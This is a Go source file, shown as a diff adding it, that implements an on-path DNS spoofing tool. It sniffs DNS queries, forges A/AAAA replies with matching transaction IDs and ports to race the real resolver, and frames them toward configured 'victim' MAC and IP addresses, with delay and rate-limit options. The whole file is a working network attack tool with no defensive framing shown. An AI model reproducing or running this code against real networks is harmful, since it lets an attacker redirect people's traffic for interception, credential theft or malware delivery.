@@ -0,0 +1,162 @@
+package main
+
+import (
+	"context"
+	"errors"
+	"fmt"
+	"net"
+	"time"
+
+	"github.com/google/gopacket"
+	"github.com/google/gopacket/layers"
+)
+
+// A PacketWriter sends raw packets out onto the network.
+// *pcap.Handle is a PacketWriter.
+type PacketWriter interface {
+	WritePacketData(data []byte) error
+}
+
+// An Injector forges replies to DNS queries sniffed off the wire and
+// writes them straight back onto it. Since we are only on-path and do
+// not own the address being queried, the forged reply must arrive
+// before the real resolver's, after which the client ignores the real one.
+type Injector struct {
+	// Writer sends the forged replies, e.g. a pcap handle
+	// on the interface the queries were captured from.
+	Writer PacketWriter
+	// Recorder, if set, is given every query answered followed by
+	// the reply forged for it. It should be of the same link type
+	// as the captured queries.
+	Recorder *PcapRecorder
+	// Context, if set, describes the Ethernet interface Writer writes
+	// on (see DiscoverInjection). Replies to queries captured without
+	// an Ethernet layer, e.g. on Linux's "any" pseudo-interface, are
+	// then framed from Context.MAC to Context.VictimMAC; without it,
+	// such replies are written as bare IP packets.
+	Context *InjectionContext
+	// Config, if set, says whose queries InjectSpoofed answers, and
+	// how; otherwise every query the table can answer is answered.
+	Config *SpoofConfig
+}
+
+// Inject writes a reply to the captured DNS query carrying answers,
+// as built by SerializeDNSResponse.
+func (in *Injector) Inject(query gopacket.Packet, answers []layers.DNSResourceRecord) error {
+	data, err := SerializeDNSResponse(query, answers)
+	if err != nil {
+		return err
+	}
+	return in.write(query, data)
+}
+
+// InjectSpoofed writes a reply to the captured DNS query as answered by
+// table (see SpoofTable.SpoofedUDPResponse), and reports whether it did.
+// Queries the table has nothing to say about, or which are not from a
+// victim (see SpoofConfig.Victims), are left for the real resolver to
+// answer, and nothing is written.
+//
+// The reply is held back as long as SpoofTable.ResponseDelay says; if ctx
+// is done first, nothing is written and ctx's error is returned. Nor is
+// anything written for a victim over in.Config's RateLimit.
+func (in *Injector) InjectSpoofed(ctx context.Context, query gopacket.Packet, table *SpoofTable) (bool, error) {
+	start := time.Now()
+	dns, ok := query.Layer(layers.LayerTypeDNS).(*layers.DNS)
+	if !ok {
+		return false, errors.New("packet has no DNS layer")
+	}
+	ip, mac := packetSource(query)
+	decision := decideQuery(dns, table, in.Config, packetAddr(query), in.Config.victim(ip, mac))
+	if limit := in.Config.limiter(); decision.Action == ActionSpoof && !limit.Allow(ip) {
+		decision.Action, decision.Response = ActionDrop, nil
+		if limit.Forward {
+			decision.Action = ActionForward
+		}
+	}
+	var source string
+	if ip != nil {
+		source = ip.String()
+	}
+	in.Config.observe(source, start, decision)
+	if decision.Action != ActionSpoof {
+		return false, nil
+	}
+	data, err := serializeReply(query, decision.Response)
+	if err != nil {
+		return false, err
+	}
+	if err := sleepContext(ctx, table.ResponseDelay(dns)); err != nil {
+		return false, err
+	}
+	return true, in.write(query, data)
+}
+
+// write sends the forged reply data to query, framed for in.Context,
+// recording them both if in has a Recorder.
+func (in *Injector) write(query gopacket.Packet, data []byte) error {
+	framed, err := in.frame(query, data)
+	if err != nil {
+		return err
+	}
+	if err := in.Writer.WritePacketData(framed); err != nil {
+		return err
+	}
+	if in.Recorder == nil {
+		return nil
+	}
+	if err := in.Recorder.RecordPacket(query); err != nil {
+		return err
+	}
+	return in.Recorder.Record(gopacket.CaptureInfo{}, data)
+}
+
+// frame returns the reply data to query within an Ethernet frame from
+// in.Context's MAC address to its victim's, if query has no Ethernet
+// layer of its own and in has a Context to frame it for. Otherwise
+// data is returned as it is.
+func (in *Injector) frame(query gopacket.Packet, data []byte) ([]byte, error) {
+	if in.Context == nil || in.Context.VictimMAC == nil || query.Layer(layers.LayerTypeEthernet) != nil {
+		return data, nil
+	}
+	eth := &layers.Ethernet{
+		SrcMAC:       in.Context.MAC,
+		DstMAC:       in.Context.VictimMAC,
+		EthernetType: layers.EthernetTypeIPv4,
+	}
+	if _, ok := query.NetworkLayer().(*layers.IPv6); ok {
+		eth.EthernetType = layers.EthernetTypeIPv6
+	}
+	buf := gopacket.NewSerializeBuffer()
+	if err := gopacket.SerializeLayers(buf, gopacket.SerializeOptions{}, eth, gopacket.Payload(data)); err != nil {
+		return nil, err
+	}
+	return buf.Bytes(), nil
+}
+
+// SpoofReplyFor returns the raw bytes of a forged reply to the captured
+// DNS query, answering each of its A or AAAA questions with ip (see
+// SerializeDNSResponse). The reply is sent to the query's source port
+// with its transaction ID, since a client drops replies which do not
+// match both, however random they were.
+func SpoofReplyFor(query gopacket.Packet, ip net.IP) ([]byte, error) {
+	if query.Layer(layers.LayerTypeUDP) == nil {
+		return nil, errors.New("cannot spoof a reply to a packet without a UDP layer")
+	}
+	dns, ok := query.Layer(layers.LayerTypeDNS).(*layers.DNS)
+	if !ok {
+		return nil, errors.New("cannot spoof a reply to a packet without a DNS layer")
+	}
+
+	var answers []layers.DNSResourceRecord
+	for _, q := range uniqueQuestions(questionsOf(dns)) {
+		answer, err := AnswerForQuestion(q, ip)
+		if err != nil {
+			continue
+		}
+		answers = append(answers, answer)
+	}
+	if len(answers) == 0 {
+		return nil, fmt.Errorf("no question in query %#x can be answered with %s", dns.ID, ip)
+	}
+	return SerializeDNSResponse(query, answers)
+}